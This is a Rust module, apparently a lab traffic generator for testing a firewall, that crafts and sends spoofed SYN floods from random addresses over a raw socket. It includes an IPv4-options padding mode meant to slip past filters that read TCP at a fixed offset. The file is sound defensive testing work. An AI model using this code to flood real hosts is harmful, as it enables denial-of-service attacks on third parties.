//! A spoofed SYN flood over a raw IPv4 socket (IPPROTO_RAW: the header is ours): SYNs
//! from random addresses of a source prefix (default 198.18.0.0/15, RFC 2544's
//! benchmarking network, which no host in the lab answers for) and random ports, to
//! the targets in turn, paced to `pps`. Needs CAP_NET_RAW. Nothing answers a spoofed
//! SYN's SYN-ACK, so every SYN is a half-open connection the firewall must decide
//! about.

use std::io;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4};
use std::time::{Duration, Instant};

use holdfast_pipeline::wire::build::FrameSpec;
use holdfast_pipeline::wire::tcp::flags::SYN;
use serde_json::{Value, json};
use socket2::{Domain, Protocol, Socket, Type};

use crate::traffic::Rng;

#[derive(Debug, Clone)]
pub struct FloodOptions {
    pub targets: Vec<SocketAddrV4>,
    /// Spoofed sources: a network and its prefix length.
    pub sources: (Ipv4Addr, u8),
    /// SYNs per second (0: as fast as the socket takes them).
    pub pps: u64,
    /// Stop after this many (0: until stopped or `duration`).
    pub count: u64,
    pub duration: Option<Duration>,
    pub seed: u64,
    /// Bytes of IPv4 options in each SYN (NOPs, a multiple of 4 up to 40): the shape a
    /// hook that reads TCP at a fixed offset misses.
    pub ip_options: u8,
}

/// The most IPv4 option bytes a header holds (a 60-byte header).
pub const IP_OPTIONS_MAX: u8 = 40;

/// The IPv4 packet of one spoofed SYN.
pub fn syn(rng: &mut Rng, o: &FloodOptions, target: SocketAddrV4) -> Vec<u8> {
    let (net, len) = o.sources;
    let host_bits = 32 - u32::from(len.min(32));
    let mask = if host_bits == 32 { u32::MAX } else { (1u32 << host_bits) - 1 };
    let src = Ipv4Addr::from((u32::from(net) & !mask) | (rng.next_u64() as u32 & mask));
    let sport = 1024 + (rng.next_u64() % 64_512) as u16;
    let frame = FrameSpec::tcp(IpAddr::V4(src), sport, IpAddr::V4(*target.ip()), target.port(), SYN, rng.next_u64() as u32, 0).build();
    // The packet: without the Ethernet header and without the padding to Ethernet's
    // minimum (the kernel takes the buffer's length as the IP total length).
    let total = usize::from(u16::from_be_bytes([frame[16], frame[17]]));
    let mut p = frame[14..14 + total].to_vec();
    if o.ip_options > 0 {
        let n = usize::from(o.ip_options.min(IP_OPTIONS_MAX) & !3);
        p.splice(20..20, std::iter::repeat_n(1u8, n)); // NOPs: the TCP checksum is unchanged
        p[0] = 0x40 | (5 + n / 4) as u8;
        p[2..4].copy_from_slice(&((total + n) as u16).to_be_bytes());
        p[10..12].copy_from_slice(&[0, 0]);
        let sum = holdfast_pipeline::wire::checksum_finish(holdfast_pipeline::wire::checksum_add(0, &p[..20 + n]));
        p[10..12].copy_from_slice(&sum.to_be_bytes());
    }
    p
}

/// Sends until `count`, `duration` or `stop()`; `{sent, send_errors, seconds, pps}`.
pub fn run(o: &FloodOptions, stop: impl Fn() -> bool) -> io::Result<Value> {
    if o.targets.is_empty() {
        return Err(io::Error::new(io::ErrorKind::InvalidInput, "no --target"));
    }
    if o.ip_options > IP_OPTIONS_MAX || !o.ip_options.is_multiple_of(4) {
        return Err(io::Error::new(io::ErrorKind::InvalidInput, format!("--ip-options {}: a multiple of 4 up to {IP_OPTIONS_MAX}", o.ip_options)));
    }
    let sock = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(libc::IPPROTO_RAW)))?;
    let mut rng = Rng::new(o.seed);
    let started = Instant::now();
    let (mut sent, mut errors) = (0u64, 0u64);
    let mut next = 0usize;
    let batch = 64u64;
    loop {
        if stop() || (o.count > 0 && sent >= o.count) || o.duration.is_some_and(|d| started.elapsed() >= d) {
            break;
        }
        for _ in 0..batch {
            let t = o.targets[next % o.targets.len()];
            next += 1;
            let pkt = syn(&mut rng, o, t);
            match sock.send_to(&pkt, &SocketAddr::V4(t).into()) {
                Ok(_) => sent += 1,
                // ENOBUFS and the like: the host's queue is full; counted, go on.
                Err(_) => errors += 1,
            }
            if o.count > 0 && sent >= o.count {
                break;
            }
        }
        if o.pps > 0 {
            // Paced: wait until the schedule catches up with what was sent.
            let due = Duration::from_secs_f64(sent as f64 / o.pps as f64);
            let el = started.elapsed();
            if due > el {
                std::thread::sleep(due - el);
            }
        }
    }
    let secs = started.elapsed().as_secs_f64();
    Ok(json!({"sent": sent, "send_errors": errors, "seconds": secs, "pps": if secs > 0.0 { sent as f64 / secs } else { 0.0 }}))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn spoofed_syns_parse_as_syns_from_the_prefix() {
        for ip_options in [0, 4, IP_OPTIONS_MAX] {
            spoofed_syns_with(ip_options);
        }
    }

    fn spoofed_syns_with(ip_options: u8) {
        let hl = 20 + usize::from(ip_options);
        let o = FloodOptions {
            targets: vec![SocketAddrV4::new(Ipv4Addr::new(10, 0, 2, 1), 80)],
            sources: (Ipv4Addr::new(198, 18, 0, 0), 15),
            pps: 0,
            count: 0,
            duration: None,
            seed: 1,
            ip_options,
        };
        let mut rng = Rng::new(1);
        let mut srcs = std::collections::HashSet::new();
        for _ in 0..1000 {
            let p = syn(&mut rng, &o, o.targets[0]);
            // Back into a frame for the pipeline's parser: it checks the checksums.
            let mut frame = vec![0u8; 12];
            frame.extend_from_slice(&[0x08, 0x00]);
            frame.extend_from_slice(&p);
            let f = holdfast_pipeline::parse::parse(&frame).expect("a valid SYN");
            let holdfast_pipeline::parse::Frame::Ip(m) = f else { panic!("{f:?}") };
            assert!(matches!(m.l4, holdfast_pipeline::parse::L4::Tcp(t) if t.flags == SYN), "{m:?}");
            assert_eq!(usize::from(p[0] & 0x0f) * 4, hl, "the header length counts the options");
            let src = u32::from_be_bytes(p[12..16].try_into().unwrap());
            assert_eq!(src >> 17, u32::from(Ipv4Addr::new(198, 18, 0, 0)) >> 17);
            assert_eq!(&p[16..20], &[10, 0, 2, 1]);
            assert_eq!(p[hl + 13], SYN);
            assert_eq!(p.len(), hl + 20, "no padding: the kernel takes the buffer's length as the packet's");
            // The TCP checksum over the pseudo-header and segment adds up to 0xffff.
            let mut sum: u32 = 6 + 20;
            for c in p[12..20].chunks(2).chain(p[hl..].chunks(2)) {
                sum += u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)]));
            }
            while sum > 0xffff {
                sum = (sum & 0xffff) + (sum >> 16);
            }
            assert_eq!(sum, 0xffff);
            srcs.insert(src);
        }
        assert!(srcs.len() > 990, "sources repeat: {}", srcs.len());
    }
}
